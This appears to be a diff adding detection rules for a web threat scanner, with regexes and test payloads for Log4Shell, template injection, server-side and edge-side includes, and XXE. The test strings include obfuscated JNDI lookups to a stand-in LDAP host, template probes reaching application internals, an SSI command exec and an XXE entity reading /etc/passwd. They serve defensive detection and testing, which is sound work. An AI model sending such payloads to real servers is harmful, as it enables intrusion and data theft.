@@ -1,0 +1,81 @@
+/** Expressions that template engines, loggers and servers evaluate. */
+import { defineRules, inField } from '../threat-rule.ts';
+
+export const templateRules = defineRules([
+  {
+    id: 'LOG4J-001',
+    class: 'log4shell',
+    severity: 'critical',
+    score: 9,
+    title: 'A lookup of Log4j, plain or put together from others.',
+    refs: ['CWE-917', 'T1190', 'CVE-2021-44228', 'CVE-2021-45046'],
+    literals: ['${', '$\\{', '${${', 'jndi:', 'jnd${'],
+    pattern:
+      /\$\\?\{(?:[^}\s]{0,60}?jndi|jnd\$|\s{0,4}(?:lower|upper|env|sys|java|date|ctx|bundle|main|map|sd|marker|k8s|docker|web|spring|base64|log4j|event)\s{0,2}:|[^}]{0,16}::?-|\$\\?\{)|jndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|jnd\$\\?\{/y,
+    matches: [
+      ...inField('user_agent', '${jndi:ldap://a.example/x}', '${${lower:j}ndi:ldap://x}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x}'),
+      ...inField('query', 'q=${${env:FOO:-j}ndi:dns://x}', 'q=$%257Bjndi:ldap://x%257D', 'q=${jnd${upper:%C4%B1}:x}', 'q=$\\u007Bjndi:ldap://x}'),
+    ],
+    honest: inField('query', 'q=jndi+explained', 'q=${name}', 'q=${price:usd}'.replace(':usd', '')),
+  },
+  {
+    id: 'SSTI-001',
+    class: 'ssti',
+    severity: 'critical',
+    score: 6,
+    title: 'An expression of a template engine that computes, calls or reaches into the application.',
+    refs: ['CWE-1336', 'T1190'],
+    literals: ['{{', '${', '#{', '*{', '@{', '[[', '{%', '<%', '%{', '@(', '$eval', '#set(', '#foreach', '{#', '#evaluate(', '{@', '{!', '%%{'],
+    pattern:
+      /(?:\{\{|[$#*@%]\{)-?\s{0,4}(?:\d{1,8}\s{0,4}[*+/-]\s{0,4}["']?\d|["'][^"']{0,40}["']\s{0,4}[.*|+(]|[\w.$\\]{1,60}\s{0,4}(?:\(|\|\s{0,4}(?:attr|join|map|filter|format|safe|e\b)|\[["'\d])|(?:self|config|request|session|app|settings|this|globals|namespace|cycler|joiner|lipsum|url_for|range|dict|class)\b\s{0,2}[.|[}_(]|__\w{1,20}__|\w{0,30}__(?:class|init|globals|mro|subclasses|import|builtins)__|[^}]{0,60}\.(?:exec|system|popen|getclass|forname|constructor)\b|\[|\(|sleep)|\[\[\s{0,4}\d{1,6}\s{0,4}[*+]\s{0,4}\d|\{%-?\s{0,4}(?:for|if|set|import|include|extends|block|macro|with|debug|raw|print|do)\b|<%-?=?\s{0,8}(?:[\w.]{1,30}\s{0,4}[*+(.]|["'`(@$]|(?:if|for|out|system|exec|require|import|response|request|eval)\b|\d)|@\(\s{0,4}\d{1,6}\s{0,4}[*+/-]\s{0,4}\d|#(?:set|foreach|evaluate)\s{0,2}\(|\$eval\(/y,
+    matches: [
+      ...inField(
+        'query',
+        'q={{7*7}}',
+        'q=${7*7}',
+        'q=%23{7*7}',
+        'q=<%25=+7*7+%25>',
+        "q={{''.__class__.__mro__}}",
+        'q={{config.items()}}',
+        'q={%25+for+x+in+y+%25}',
+        'q=@(1%2B2)',
+        'q={{request|attr("x")}}',
+        'q=[[5*5]]',
+      ),
+      ...inField('user_agent', '${7*7}'),
+    ],
+    honest: inField(
+      'query',
+      'q=${name}',
+      'img={{product.image}}',
+      'q=[[link]]',
+      'q={%22a%22:1}',
+      'u=user@{domain}',
+      'q={%2525+$num_views|string_format:%22%2525d%22+%2525}+vues',
+    ),
+  },
+  {
+    id: 'SSI-001',
+    class: 'ssi',
+    severity: 'high',
+    score: 7,
+    title: 'A server-side include, or one of a cache (ESI).',
+    refs: ['CWE-97', 'T1190'],
+    literals: ['<!--#', '<esi:', '<!-- #', '<!--\\#', '<!--esi'],
+    pattern: /<!--\s?\\?#\s{0,4}(?:exec|echo|include|config|fsize|flastmod|printenv|set|if|odbc|email)\b|<esi:\w|<!--esi/y,
+    matches: inField('query', 'x=<!--%23exec+cmd="ls"-->', 'x=<!--%23echo+var="DATE_LOCAL"+-->', 'x=<esi:include+src="http://a.example"/>'),
+    honest: inField('query', 'x=<!--+a+comment+-->', 'x=<!--%23+7-->'),
+  },
+  {
+    id: 'XXE-001',
+    class: 'xxe',
+    severity: 'high',
+    score: 7,
+    title: 'A document type with an entity of the sender.',
+    refs: ['CWE-611', 'T1190'],
+    literals: ['<!entity', '<!doctype', 'xinclude', '<!element'],
+    pattern: /<!entity\s|<!doctype\s[^>[]{0,80}(?:\[|system\s)|<!element\s|xmlns:xi\s?=|xi:include/y,
+    matches: inField('query', 'x=<!DOCTYPE+foo+[<!ENTITY+x+SYSTEM+"file:///etc/passwd">]>', 'x=<!ENTITY+%25+x+SYSTEM+"http://a">'),
+    honest: inField('query', 'x=<!DOCTYPE+html>'),
+  },
+]);
